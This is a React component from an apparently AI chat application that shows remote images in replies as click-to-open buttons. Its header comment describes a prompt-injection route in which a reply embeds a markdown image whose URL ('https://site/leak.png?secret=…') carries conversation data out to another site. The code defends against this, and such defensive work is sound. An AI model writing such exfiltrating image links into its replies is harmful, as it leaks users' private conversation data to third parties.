"use client";
// An image in a reply. A remote one is not fetched when the conversation opens: its address could carry data out of
// the conversation (a prompt-injected or imported reply writing `![x](https://site/leak.png?secret=…)`). It shows as
// a button naming the site, and only a click opens it, in a new tab without a referrer. The page's
// Content-Security-Policy (img-src 'self' data: blob:, proxy.ts) refuses any remote image the page would still load.
import type { ComponentProps } from "react";
import { ImageIcon } from "../ui/icons";

/** A URL with a scheme or a network path ("//host/…") is remote; a path on this server is not. */
function remoteHost(src: string): string | null {
  if (!/^(?:[a-z][a-z0-9+.-]*:|\/\/|\\)/i.test(src)) return null;
  try {
    return new URL(src, "http://hintline.invalid").host || src.slice(0, 60);
  } catch {
    return src.slice(0, 60);
  }
}

export function MarkdownImage({ src, alt }: Pick<ComponentProps<"img">, "src" | "alt">) {
  if (typeof src !== "string" || src === "") return alt ? <span>{alt}</span> : null;
  const host = remoteHost(src);
  if (host === null) {
    // biome-ignore lint/performance/noImgElement: a reply's own image, on this server, at its own size.
    return <img src={src} alt={alt ?? ""} className="max-w-full" />;
  }
  return (
    <button
      type="button"
      data-testid="remote-image"
      title={`Opens ${src.slice(0, 300)} in a new tab: ${host} learns that it was opened.`}
      onClick={() => window.open(src, "_blank", "noopener,noreferrer")}
      className="inline-flex max-w-full items-center gap-1.5 rounded-lg border border-border bg-elevated px-2.5 py-1 text-sm text-muted hover:text-fg"
    >
      <ImageIcon className="shrink-0" />
      <span className="truncate">
        Load image from {host}
        {alt ? ` (${alt})` : ""}
      </span>
    </button>
  );
}
